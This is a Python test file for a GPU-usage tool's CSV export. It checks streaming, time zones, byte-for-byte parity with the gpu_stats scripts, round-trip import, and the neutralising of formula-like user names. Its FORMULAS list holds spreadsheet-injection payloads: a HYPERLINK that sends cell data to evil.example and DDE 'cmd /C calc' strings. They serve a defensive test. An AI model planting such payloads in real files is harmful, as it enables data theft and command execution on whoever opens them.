"""GET /api/v1/export.csv and `gpupulse-api export`: the file gpu_stats writes, one row per
process per tick, streamed; checked against the real gpu_stats scripts' own output."""

from __future__ import annotations

import csv
import inspect
import io
import json
import os
import pwd
import re
import subprocess
import sys
import urllib.request
from datetime import UTC, datetime
from pathlib import Path

import pytest

from collector.backfill import backfill
from sampling.simulated import SimulatedBackend
from store import open_db
from store.samples import GpuInfo, GpuSample, ProcessSample, Recorder, Tick, set_meta
from tests.support.commands import gpupulse_api, python_m, scheduler_command
from tests.support.lab import DAY_START, HOSTILE, fill_day, lab_app
from tests.support.servers import start_gunicorn, stop

GPU_STATS = Path(__file__).resolve().parents[2] / "data" / "gpu_stats"
HEADER_LINE = "timestamp,user,pid,gpu,usage\n"


def test_csv_has_one_row_per_process_sample_and_is_streamed(conn, db_path):
    expected = fill_day(conn, 50)
    reply = lab_app(db_path).test_client().get("/api/v1/export.csv?date=2026-03-03")
    assert reply.status_code == 200 and reply.mimetype == "text/csv"
    assert reply.is_streamed
    assert 'filename="20260303_gpu_stats.csv"' in reply.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(reply.get_data(as_text=True))))
    assert rows[0] == ["timestamp", "user", "pid", "gpu", "usage"]
    body = [r for r in rows[1:] if r[1] != "-"]
    assert (
        len(body)
        == expected
        == conn.execute(
            "SELECT count(*) FROM process_samples WHERE ts >= ? AND ts < ?",
            (DAY_START, DAY_START + 86_400),
        ).fetchone()[0]
    )
    # unix seconds, login, PID, GPU index, the GPU's utilization (not the process's memory)
    assert body[0] == [str(DAY_START), "alice", "1000", "0", "0"]
    assert [str(DAY_START + 60 * 7), "alice", "1007", "0", "7"] in body
    assert body[-1][0] == str(DAY_START + 49 * 60)
    # GPU 1 reports no utilization (a MIG device): its active share of the tick stands in.
    assert [HOSTILE, "5000", "1", "40"] in [r[1:] for r in body]
    assert ["bob", "9000", "1", "40"] in [r[1:] for r in body]


def test_ticks_without_any_process_are_gpu_stats_dash_rows(conn, db_path):
    fill_day(conn, 3)
    text = lab_app(db_path).test_client().get("/api/v1/export.csv?date=2026-03-03").text
    lines = text.splitlines()
    # As gpu_stats' gpu_info.py prints when no GPU has a process: dashes and usage 0.
    assert lines[-2:] == [f"{DAY_START + 180},-,-,-,0", f"{DAY_START + 240},-,-,-,0"]
    assert len(lines) == 1 + 3 * 3 + 2


def test_response_body_is_a_generator_of_chunks(conn, db_path):
    fill_day(conn, 3000, step=1)  # 9,000 rows: several batches
    app = lab_app(db_path)
    with app.test_request_context("/api/v1/export.csv?date=2026-03-03"):
        from api.lab.export import export_csv

        reply = export_csv()
        assert reply.is_streamed and inspect.isgenerator(reply.response)
        chunks = iter(reply.response)
        first = next(chunks)
        assert first == HEADER_LINE
        sizes = [len(c) for c in chunks]
    assert len(sizes) >= 4  # 9,000 rows in batches of 2,000, not one big string
    assert max(sizes) < 200_000


def test_days_follow_the_time_zone(conn, db_path):
    fill_day(conn, 2)
    app = lab_app(db_path, tz="America/New_York")
    text = app.test_client().get("/api/v1/export.csv?date=2026-03-02").get_data(as_text=True)
    # 2026-03-03 00:00 UTC is 19:00 the day before in New York: in that day's file.
    assert f"{DAY_START},alice,1000,0,0" in text


def test_empty_day_is_just_the_header(client):
    reply = client.get("/api/v1/export.csv?date=2020-01-01")
    assert reply.get_data(as_text=True) == HEADER_LINE


def test_bad_date_is_400(client):
    reply = client.get("/api/v1/export.csv?date=2026-02-30")
    assert reply.status_code == 400 and reply.get_json()["parameter"] == "date"


# -- against the real gpu_stats ----------------------------------------------------------


def run_gpu_stats(tmp: Path, with_process: bool) -> Path:
    """Run gpu_stats' real gpu_stats.sh and gpu_info.py once over its own sample
    `nvidia-smi -x -q` (two RTX 2080 Ti, GPU 0 at 0 % with one process, here this test's own
    PID so the script finds its owner); returns the daily file it wrote."""
    bin_dir, home = tmp / "bin", tmp / "home"
    bin_dir.mkdir(parents=True)
    xml = (GPU_STATS / "geblanco_nvidia.xml").read_text(encoding="utf-8")
    xml = xml.replace("<pid>1274</pid>", f"<pid>{os.getpid()}</pid>")
    if not with_process:
        xml = re.sub(r"<process_info>.*?</process_info>", "", xml, flags=re.S)
    (tmp / "smi.xml").write_text(xml, encoding="utf-8")
    info = GPU_STATS / "geblanco_gpu_info.py.txt"
    scripts = {
        "nvidia-smi": f'#!/bin/sh\ncat "{tmp / "smi.xml"}"\n',
        "gpu_info.py": f'#!/bin/sh\nexec "{sys.executable}" "{info}"\n',
    }
    for name, text in scripts.items():
        (bin_dir / name).write_text(text)
        (bin_dir / name).chmod(0o755)
    env = {**os.environ, "HOME": str(home), "PATH": f"{bin_dir}:{os.environ['PATH']}", "TZ": "UTC"}
    script = GPU_STATS / "geblanco_gpu_stats.sh"
    subprocess.run(["bash", str(script)], env=env, check=True, timeout=60)
    (written,) = (home / "gpu_stats").iterdir()
    return written


def database_like(path: Path, ts: int, with_process: bool) -> None:
    """What the collector records for the same moment: the two GPUs, idle, and the process."""
    conn = open_db(path, migrate=True)
    gpus = [GpuInfo(f"GPU-{i}", i, "NVIDIA GeForce RTX 2080 Ti") for i in (0, 1)]
    procs = [ProcessSample("GPU-0", os.getpid(), ts - 60, pwd.getpwuid(os.getuid()).pw_name)]
    tick = Tick(ts, 300.0, [GpuSample(g, util=0) for g in gpus], procs if with_process else [])
    Recorder(conn).write([tick])
    conn.close()


def export_cli(db: Path, out: Path, day: str) -> subprocess.CompletedProcess:
    """`gpupulse-api export` as a child process."""
    return subprocess.run(
        gpupulse_api("export", "--dir", str(out), "--from", day, "--to", day),
        env={**os.environ, "GPUPULSE_DB": str(db), "GPUPULSE_TZ": "UTC"},
        capture_output=True,
        text=True,
        timeout=60,
    )


def test_the_export_is_byte_for_byte_what_gpu_stats_writes(tmp_path):
    for with_process in (True, False):
        work = tmp_path / str(with_process)
        theirs = run_gpu_stats(work / "gpu_stats", with_process)
        ts = int(theirs.read_text().splitlines()[1].split(",")[0])
        day = datetime.fromtimestamp(ts, UTC).date().isoformat()
        database_like(work / "pulse.db", ts, with_process)
        done = export_cli(work / "pulse.db", work / "out", day)
        assert done.returncode == 0, done.stderr
        (ours,) = (work / "out").iterdir()
        assert ours.name == theirs.name  # YYYYMMDD_gpu_stats.csv
        assert ours.read_bytes() == theirs.read_bytes()
        assert theirs.read_text().startswith(HEADER_LINE)


def run(argv: list[str], db: Path, tmp: Path) -> subprocess.CompletedProcess:
    """One of GPU Pulse's commands over `db` (days in UTC), as a child process."""
    env = {**os.environ, "GPUPULSE_DB": str(db), "GPUPULSE_TZ": "UTC"}
    env["GPUPULSE_HEARTBEAT"] = str(tmp / "heartbeat")
    done = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    return done


def gpu_hours_by_user(db: Path, day: str, tmp: Path) -> dict[str, float]:
    """Roll `db` up with the scheduler, then ask `gpupulse-api usage` who used the GPUs."""
    run(scheduler_command("run-once", "rollup"), db, tmp)
    done = run(gpupulse_api("usage", "--by", "user", "--json", "--from", day, "--to", day), db, tmp)
    return {row["user"]: row["gpu_hours"] for row in json.loads(done.stdout)["rows"]}


def test_export_then_import_keeps_every_users_gpu_hours(tmp_path):
    # A weekday of the simulated fleet at 5 s ticks, written by the collector's own code. One
    # GPU, whose jobs run one after another: gpu_stats' rows carry the GPU's utilization, not
    # each process's, so a GPU shared between processes is split equally on import (the
    # README says so) and only time that was never shared can come back exactly per user.
    original, imported = tmp_path / "original.db", tmp_path / "imported.db"
    day = "2026-03-03"
    conn = open_db(original, migrate=True)
    set_meta(conn, [("host_id", "simbox")])
    end = int(datetime(2026, 3, 4, tzinfo=UTC).timestamp())
    assert backfill(SimulatedBackend(gpus=1), Recorder(conn), 1, end, tick_s=5) == 17_280
    conn.close()
    out = str(tmp_path / "out")
    run(gpupulse_api("export", "--dir", out, "--from", day, "--to", day), original, tmp_path)
    files = [str(p) for p in (tmp_path / "out").iterdir()]
    assert [Path(f).name for f in files] == ["20260303_gpu_stats.csv"]
    done = run(python_m("collector", "import", "--host", "simbox", *files), imported, tmp_path)
    assert "skipped 0 bad row(s)" in done.stdout
    before = gpu_hours_by_user(original, day, tmp_path)
    after = gpu_hours_by_user(imported, day, tmp_path)
    assert len(before) >= 3 and sum(before.values()) > 10  # a real day's worth of work
    assert set(after) == set(before)
    for user, hours in before.items():
        assert after[user] == pytest.approx(hours, rel=0.01), user


# -- names a spreadsheet would run ------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile_day(db: Path) -> None:
    """One tick on one GPU: a process of each formula-like user, and one of alice."""
    conn = open_db(db, migrate=True)
    gpu = GpuInfo("GPU-0", 0, "NVIDIA A100")
    users = [*FORMULAS, "alice"]
    procs = [ProcessSample("GPU-0", 100 + k, DAY_START - 60, u) for k, u in enumerate(users)]
    Recorder(conn).write([Tick(DAY_START, 5.0, [GpuSample(gpu, util=90)], procs)])
    conn.close()


def users_in(path: Path) -> list[str]:
    """The user cells of a written export file, as a spreadsheet would read them."""
    with path.open(newline="", encoding="utf-8") as handle:
        return [row[1] for row in list(csv.reader(handle))[1:]]


def test_formula_user_names_are_neutralised_in_both_exports(tmp_path):
    db = tmp_path / "pulse.db"
    hostile_day(db)
    run(
        gpupulse_api(
            "export", "--dir", str(tmp_path / "cli"), "--from", "2026-03-03", "--to", "2026-03-03"
        ),
        db,
        tmp_path,
    )
    from_cli = tmp_path / "cli" / "20260303_gpu_stats.csv"
    proc, base = start_gunicorn(db, workers=1)
    try:
        with urllib.request.urlopen(f"{base}/api/v1/export.csv?date=2026-03-03") as reply:
            (tmp_path / "http.csv").write_bytes(reply.read())
    finally:
        stop(proc)
    expected = sorted([f"'{name}" for name in FORMULAS] + ["alice"])
    for written in (from_cli, tmp_path / "http.csv"):
        users = users_in(written)
        assert sorted(users) == expected, written
        assert not [u for u in users if u.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert from_cli.read_bytes() == (tmp_path / "http.csv").read_bytes()
    # And GPU Pulse's own import reads the names back as they were.
    run(
        python_m("collector", "import", "--host", "box", str(from_cli)),
        tmp_path / "in.db",
        tmp_path,
    )
    conn = open_db(tmp_path / "in.db")
    names = {row[0] for row in conn.execute("SELECT user FROM processes")}
    conn.close()
    assert names == {*FORMULAS, "alice"}
